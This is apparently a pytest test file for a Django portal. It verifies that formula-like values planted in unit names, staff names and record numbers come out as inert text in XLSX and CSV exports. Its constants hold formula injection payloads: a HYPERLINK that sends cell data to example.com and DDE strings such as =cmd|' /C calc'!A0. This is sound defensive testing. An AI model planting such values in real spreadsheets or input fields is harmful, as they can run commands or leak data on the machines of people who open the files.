"""Spreadsheet formulas planted in names and codes stay text in every file the portal gives out.

A name such as `=HYPERLINK(…)` comes in through an import as typed. Opened in Excel or
LibreOffice, an export must show it, never run it: XLSX cells are text, and a CSV cell that
starts like a formula begins with a single quote (OWASP). CSV downloads carry the UTF-8
byte-order mark Excel needs for the diacritics; the command's output is EXCHANGE.md's, without.
"""

import csv
import datetime
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from emulation.services import nomination_create
from exports.models import Export
from inspections import services as inspections
from personnel.models import Unit, UnitKind
from portal.models import PersonalDataAccess
from tests.factories import Clock, local, make_period, make_record, make_staff, make_user

HYPERLINK = '=HYPERLINK("http://example.com/?x="&B10,"Xem chi tiết")'
CALC = "=cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB_STRIPPED = "=1+1"  # what an import leaves of "\t=1+1"
PLUS = "+1+1"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"

UNIT = (TAB_STRIPPED, HYPERLINK)  # code, name
CLEAN_UNIT = (CALC, AT_SUM)  # inspected, no confirmed record
STAFF = [(CALC, TAB), (PLUS, MINUS), (AT_SUM, HYPERLINK)]  # code, full name
RECORD_NUMBER = AT_SUM

BYTE_ORDER_MARK = b"\xef\xbb\xbf"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def planted(monkeypatch, inspector, reviewer):
    """A 2019 period of a unit whose code and name are formulas, its three people's codes and
    names formulas too, one of them excluded by a record numbered with one; the unit and a
    second such unit inspected in 2019; a reviewer's look at that person's record logged."""
    clock = Clock(monkeypatch, local(2019, 5, 2, 8, 0))
    unit = Unit.objects.create(code=UNIT[0], name=UNIT[1], kind=UnitKind.WARD)
    clean = Unit.objects.create(code=CLEAN_UNIT[0], name=CLEAN_UNIT[1], kind=UnitKind.COMMUNE)
    people = [make_staff(code, unit=unit, full_name=name) for code, name in STAFF]
    record = make_record(people[0], local(2019, 3, 12, 8, 0), number=RECORD_NUMBER)
    make_period("2019")
    for person in people:
        nomination_create(
            period_code="2019",
            staff_code=person.code,
            title_code="lao_dong_tien_tien",
            unit=unit,
            submitted_by=None,
        )
    nomination_create(
        period_code="2019", title_code="tap_the_lao_dong_tien_tien", unit=unit, submitted_by=None
    )
    the_round = inspections.round_create(
        code="DX-1", name="Kiểm tra đột xuất", kind="surprise",
        starts_on=datetime.date(2019, 5, 1), ends_on=datetime.date(2019, 5, 5),
        lead=inspector, members=[], units=[unit, clean],
    )  # fmt: skip
    for visited in (unit, clean):
        inspections.visit_start(inspection_round=the_round, unit=visited, actor=inspector)
    clock.now = local(2020, 3, 30, 12, 0)
    PersonalDataAccess.objects.create(
        user=make_user(PLUS), staff=people[0], record=record, view="inspections:record_detail"
    )


def xlsx_cells(data: bytes) -> list:
    return [cell for row in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]


def assert_text_cells(data: bytes, *, holding: set[str]) -> None:
    """No cell is a formula, and the planted values are there as typed."""
    cells = xlsx_cells(data)
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    assert holding <= {cell.value for cell in cells}


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_inert_csv(text: str, *, holding: set[str]) -> None:
    """No cell starts like a formula; each planted value is there after a single quote."""
    cells = [cell for row in csv_rows(text) for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    assert {"'" + value for value in holding} <= set(cells)


COUNCIL_LIST_HOLDS = {UNIT[0], UNIT[1], *(value for person in STAFF for value in person)}
# The report's tables of units: inspections per unit, records by unit, units without a record.
UNIT_TABLES = ["inspections", "units", "clean"]
UNIT_TABLE_HOLDS = {
    "inspections": {*UNIT, *CLEAN_UNIT},
    "units": set(UNIT),
    "clean": set(CLEAN_UNIT),
}
ELIGIBILITY_HOLDS = {*(value for person in STAFF for value in person), UNIT[0], RECORD_NUMBER}


def test_it_writes_the_councils_list_as_text(client, council_member, planted):
    client.force_login(council_member)

    response = client.get(reverse("emulation:period_export", args=["2019"]))

    assert response.status_code == 200
    assert_text_cells(response.content, holding=COUNCIL_LIST_HOLDS)


def test_it_writes_the_prepared_list_as_text(
    client, council_member, planted, django_capture_on_commit_callbacks
):
    client.force_login(council_member)

    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("emulation:period_prepare", args=["2019"]), {"format": "xlsx"})
    download = client.get(reverse("exports:download", args=[Export.objects.get().pk]))

    assert download.status_code == 200
    assert_text_cells(b"".join(download.streaming_content), holding=COUNCIL_LIST_HOLDS)


@pytest.mark.parametrize("table", UNIT_TABLES)
def test_it_writes_the_report_tables_as_text(client, reviewer, planted, table):
    client.force_login(reviewer)

    response = client.get(reverse("reports:export", args=[2019, table, "xlsx"]))

    assert response.status_code == 200
    assert_text_cells(response.content, holding=UNIT_TABLE_HOLDS[table])


@pytest.mark.parametrize("table", UNIT_TABLES)
def test_it_quotes_formulas_in_the_report_csv(client, reviewer, planted, table):
    client.force_login(reviewer)

    response = client.get(reverse("reports:export", args=[2019, table, "csv"]))

    data = b"".join(response.streaming_content)
    assert data.startswith(BYTE_ORDER_MARK)
    assert_inert_csv(data.decode("utf-8-sig"), holding=UNIT_TABLE_HOLDS[table])


def test_it_quotes_formulas_in_the_eligibility_download_with_the_byte_order_mark(
    client, council_member, planted
):
    client.force_login(council_member)

    response = client.get(reverse("emulation:period_export_csv", args=["2019"]))

    data = b"".join(response.streaming_content)
    assert data.startswith(BYTE_ORDER_MARK)
    text = data.decode("utf-8-sig")
    assert_inert_csv(text, holding=ELIGIBILITY_HOLDS)
    assert [
        "'" + CALC, "'" + TAB, "'" + TAB_STRIPPED, "lao_dong_tien_tien", "excluded",
        "'" + RECORD_NUMBER,
    ] in csv_rows(text)  # fmt: skip


def test_it_quotes_formulas_in_the_eligibility_command_without_a_byte_order_mark(planted, capsys):
    call_command("eligibility", "--period", "2019", "--format", "csv")

    printed = capsys.readouterr().out
    assert printed.startswith("staff_code,full_name,agency_code,title,status,record_nos\n")
    assert_inert_csv(printed, holding=ELIGIBILITY_HOLDS)


def test_it_quotes_formulas_in_the_access_log(planted, capsys):
    call_command("export_access_log")

    printed = capsys.readouterr().out
    assert printed.startswith("at,username,staff_code,staff_name,view,")
    assert_inert_csv(printed, holding={PLUS, CALC, TAB, RECORD_NUMBER})
